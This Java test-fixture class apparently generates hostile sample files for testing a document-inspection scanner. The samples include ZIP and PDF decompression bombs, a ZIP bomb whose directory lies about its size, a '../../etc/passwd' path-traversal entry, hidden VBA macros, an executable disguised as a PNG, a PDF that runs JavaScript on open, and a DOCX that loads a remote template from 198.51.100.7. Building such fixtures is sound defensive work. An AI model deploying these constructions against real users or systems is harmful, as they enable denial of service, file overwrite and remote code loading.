package kz.qorytyndy.inspection;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/** Files as people and their enemies make them, each by the program or library that really writes its format. */
public final class SampleFiles {

    private SampleFiles() {}

    private interface Writer {
        void write(ByteArrayOutputStream to) throws IOException;
    }

    private static byte[] bytes(Writer writer) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try {
            writer.write(bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** A PDF of its own for each {@code title}. */
    public static byte[] pdf(String title) {
        return bytes(to -> {
            try (PDDocument document = new PDDocument()) {
                document.addPage(new PDPage());
                document.getDocumentInformation().setTitle(title);
                document.save(to);
            }
        });
    }

    static byte[] encryptedPdf() {
        return bytes(to -> {
            try (PDDocument document = new PDDocument()) {
                document.addPage(new PDPage());
                document.protect(new StandardProtectionPolicy("owner", "user", new AccessPermission()));
                document.save(to);
            }
        });
    }

    static byte[] pdfThatRuns() {
        return bytes(to -> {
            try (PDDocument document = new PDDocument()) {
                document.addPage(new PDPage());
                document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"));
                // Its objects stand in compressed streams.
                document.save(to);
            }
        });
    }

    /** An object stream of 200 MB in 200 KB. */
    static byte[] explodingPdf() {
        byte[] zeros = deflated(200_000_000);
        return bytes(to -> {
            to.writeBytes("%%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n"
                    .formatted(zeros.length)
                    .getBytes(StandardCharsets.US_ASCII));
            to.writeBytes(zeros);
            to.writeBytes("\nendstream\nendobj\nstartxref\n0\n%%EOF\n".getBytes(StandardCharsets.US_ASCII));
        });
    }

    /** The words, so many times. */
    static byte[] pdfOf(String words, int times) {
        return ("%PDF-1.5\n" + words.repeat(times) + "stream\n12 %%EOF").getBytes(StandardCharsets.US_ASCII);
    }

    /** A script in an object stream, whose dictionary says so; deflated, or otherwise made unreadable. */
    static byte[] pdfOfObjects(String says, boolean deflated) {
        byte[] script = "1 0 <</S/JavaScript/JS(app.alert(1))>>".getBytes(StandardCharsets.US_ASCII);
        return bytes(to -> {
            to.writeBytes("%%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4%s>>\nstream\n"
                    .formatted(says)
                    .getBytes(StandardCharsets.US_ASCII));
            to.writeBytes(
                    deflated
                            ? deflatedOnce(script)
                            : HexFormat.of().formatHex(script).getBytes(StandardCharsets.US_ASCII));
            to.writeBytes("\nendstream\nendobj\nstartxref\n0\n%%EOF\n".getBytes(StandardCharsets.US_ASCII));
        });
    }

    static byte[] png() {
        return bytes(to -> ImageIO.write(new BufferedImage(8, 8, BufferedImage.TYPE_INT_RGB), "png", to));
    }

    static byte[] jpeg() {
        return bytes(to -> ImageIO.write(new BufferedImage(8, 8, BufferedImage.TYPE_INT_RGB), "jpg", to));
    }

    /** A picture of 60,000 by 60,000 pixels, by its head. */
    static byte[] hugePng() {
        byte[] png = png();
        byte[] side = {0, 0, (byte) 0xea, 0x60};
        System.arraycopy(side, 0, png, 16, 4);
        System.arraycopy(side, 0, png, 20, 4);
        CRC32 sum = new CRC32();
        sum.update(png, 12, 17);
        for (int i = 0; i < 4; i++) {
            png[29 + i] = (byte) (sum.getValue() >> (24 - 8 * i));
        }
        return png;
    }

    public static byte[] xlsx(String text) {
        return bytes(to -> {
            try (XSSFWorkbook workbook = new XSSFWorkbook()) {
                workbook.createSheet("Парақ").createRow(0).createCell(0).setCellValue(text);
                workbook.write(to);
            }
        });
    }

    static byte[] docx() {
        return bytes(to -> {
            try (XWPFDocument document = new XWPFDocument()) {
                document.createParagraph().createRun().setText("Оқыту туралы бұйрық");
                document.createParagraph()
                        .createHyperlinkRun("https://adilet.zan.kz/")
                        .setText("adilet");
                document.write(to);
            }
        });
    }

    public static byte[] encryptedXlsx() {
        return bytes(to -> {
            try (POIFSFileSystem container = new POIFSFileSystem()) {
                Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
                encryptor.confirmPassword("secret");
                try (var encrypted = encryptor.getDataStream(container)) {
                    encrypted.write(xlsx("құпия"));
                } catch (java.security.GeneralSecurityException e) {
                    throw new IllegalStateException(e);
                }
                container.writeFilesystem(to);
            }
        });
    }

    /** Any other document of the old container. */
    public static byte[] oldOffice() {
        return bytes(to -> {
            try (POIFSFileSystem container = new POIFSFileSystem()) {
                container.createDocument(new ByteArrayInputStream(new byte[5_000]), "Workbook");
                container.writeFilesystem(to);
            }
        });
    }

    /** A text with one field of that code, in two pieces. */
    static byte[] docxWithField(String one, String two) {
        Map<String, byte[]> parts = parts(docx());
        edit(
                parts,
                "word/document.xml",
                "<w:p>",
                "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>" + one
                        + "</w:instrText></w:r><w:r><w:instrText>" + two
                        + "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p><w:p>");
        return zip(parts);
    }

    static byte[] xlsxWithFormula(String formula) {
        Map<String, byte[]> parts = parts(xlsx("x"));
        edit(parts, "xl/worksheets/sheet1.xml", "</row>", "<c r=\"B1\"><f>" + formula + "</f></c></row>");
        return zip(parts);
    }

    /** Another part, which a table of the package names. */
    static byte[] xlsxWithPart(String name, String type, byte[] content) {
        Map<String, byte[]> parts = parts(xlsx("x"));
        edit(
                parts,
                "[Content_Types].xml",
                "</Types>",
                "<Override PartName=\"/" + name + "\" ContentType=\"" + type + "\"/></Types>");
        parts.put(name, content);
        return zip(parts);
    }

    /** The package says what parts of that ending would be; it has none. */
    static byte[] xlsxDeclaring(String ending, String type) {
        Map<String, byte[]> parts = parts(xlsx("x"));
        edit(
                parts,
                "[Content_Types].xml",
                "<Override",
                "<Default Extension=\"" + ending + "\" ContentType=\"" + type + "\"/><Override");
        return zip(parts);
    }

    public static byte[] xlsxWithMacros() {
        Map<String, byte[]> parts = parts(xlsx("макрос"));
        edit(parts, "[Content_Types].xml", "spreadsheetml.sheet.main", "spreadsheetml.macroEnabled.main");
        edit(
                parts,
                "[Content_Types].xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.macroEnabled.main+xml",
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml");
        parts.put("xl/vbaProject.bin", oldOffice());
        return zip(parts);
    }

    /** The macro is there, but nothing in the package's tables says so. */
    static byte[] xlsxWithHiddenMacros() {
        return with(xlsx("макрос"), "xl/vbaProject.bin", oldOffice());
    }

    static byte[] xlsxWithProgram() {
        byte[] program = new byte[2_000];
        program[0] = 'M';
        program[1] = 'Z';
        return with(xlsx("бағдарлама"), "xl/media/image1.png", program);
    }

    static byte[] docxWithObject() {
        return with(docx(), "word/embeddings/oleObject1.bin", oldOffice());
    }

    static byte[] docxWithOutsideTemplate() {
        Map<String, byte[]> parts = parts(docx());
        parts.put("word/_rels/settings.xml.rels", """
                <?xml version="1.0" encoding="UTF-8"?>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"
                 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
                 Target="http://198.51.100.7/template.dotm" TargetMode="External"/></Relationships>""".getBytes(StandardCharsets.UTF_8));
        return zip(parts);
    }

    /** One part of 200 MB, in 200 KB. */
    public static byte[] zipBomb() {
        return with(xlsx("бомба"), "xl/media/image1.emf", new byte[200_000_000]);
    }

    /** The same, with a directory that says that the part has ten bytes. */
    public static byte[] lyingZipBomb() {
        byte[] bomb = zipBomb();
        byte[] size = {0x00, (byte) 0xc2, (byte) 0xeb, 0x0b};
        byte[] ten = {10, 0, 0, 0};
        for (int at = Bytes.indexOf(bomb, size, 0); at >= 0; at = Bytes.indexOf(bomb, size, at)) {
            System.arraycopy(ten, 0, bomb, at, 4);
        }
        return bomb;
    }

    /** A part in XML of so many bytes, and a directory that says that it has ten. */
    static byte[] xlsxOfXml(int length) {
        byte[] xml = "<x/>".concat(" ".repeat(length - 4)).getBytes(StandardCharsets.US_ASCII);
        byte[] zip = xlsxWithPart("xl/x.xml", "application/xml", xml);
        byte[] size = ByteBuffer.allocate(4)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putInt(length)
                .array();
        for (int at = Bytes.indexOf(zip, size, 0); at >= 0; at = Bytes.indexOf(zip, size, at)) {
            System.arraycopy(new byte[] {10, 0, 0, 0}, 0, zip, at, 4);
        }
        return zip;
    }

    /** A ZIP with a directory of so many entries. */
    public static byte[] entries(int number) {
        return bytes(to -> {
            byte[] zip = xlsx("x");
            byte[] entry = Arrays.copyOf(new byte[] {'P', 'K', 1, 2}, 46);
            int end = Bytes.indexOf(zip, new byte[] {'P', 'K', 5, 6}, 0);
            to.write(zip, 0, end);
            for (int i = 0; i < number; i++) {
                to.writeBytes(entry);
            }
            to.write(zip, end, zip.length - end);
        });
    }

    static byte[] plainZip() {
        return zip(Map.of("a.txt", "hello".getBytes(StandardCharsets.UTF_8)));
    }

    /** A ZIP whose part climbs out of it. */
    static byte[] xlsxWithPathParts() {
        return with(xlsx("жол"), "../../etc/passwd", new byte[10]);
    }

    static byte[] with(byte[] zip, String part, byte[] content) {
        Map<String, byte[]> parts = parts(zip);
        parts.put(part, content);
        return zip(parts);
    }

    static byte[] joined(byte[] first, byte[] second) {
        return bytes(to -> {
            to.writeBytes(first);
            to.writeBytes(second);
        });
    }

    /** A picture and an archive in one: a comment of the picture holds the archive's directory. */
    static byte[] pngAndZip() {
        return joined(png(), plainZip());
    }

    /** A PDF of this size that cannot be told from any other; a different one for each {@code seed}. */
    static byte[] pdfOf(int size, int seed) {
        byte[] file = new byte[size];
        new Random(seed).nextBytes(file);
        for (int i = 0; i < size; i++) {
            // No name begins by chance.
            file[i] = (byte) (file[i] == '/' ? 'x' : file[i]);
        }
        byte[] start = "%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII);
        byte[] end = "\nstartxref\n0\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(start, 0, file, 0, start.length);
        System.arraycopy(end, 0, file, size - end.length, end.length);
        return file;
    }

    private static Map<String, byte[]> parts(byte[] zip) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                parts.put(entry.getName(), in.readAllBytes());
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return parts;
    }

    private static void edit(Map<String, byte[]> parts, String part, String from, String to) {
        parts.computeIfPresent(
                part,
                (name, content) -> new String(content, StandardCharsets.UTF_8)
                        .replace(from, to)
                        .getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] zip(Map<String, byte[]> parts) {
        return bytes(to -> {
            try (ZipOutputStream zip = new ZipOutputStream(to)) {
                for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                    zip.putNextEntry(new ZipEntry(part.getKey()));
                    zip.write(part.getValue());
                    zip.closeEntry();
                }
            }
        });
    }

    private static byte[] deflatedOnce(byte[] content) {
        return bytes(to -> {
            try (DeflaterOutputStream deflater = new DeflaterOutputStream(to)) {
                deflater.write(content);
            }
        });
    }

    private static byte[] deflated(int zeros) {
        return bytes(to -> {
            try (DeflaterOutputStream deflater =
                    new DeflaterOutputStream(to, new Deflater(Deflater.BEST_COMPRESSION))) {
                byte[] piece = new byte[1_000_000];
                for (int written = 0; written < zeros; written += piece.length) {
                    deflater.write(piece);
                }
            }
        });
    }
}
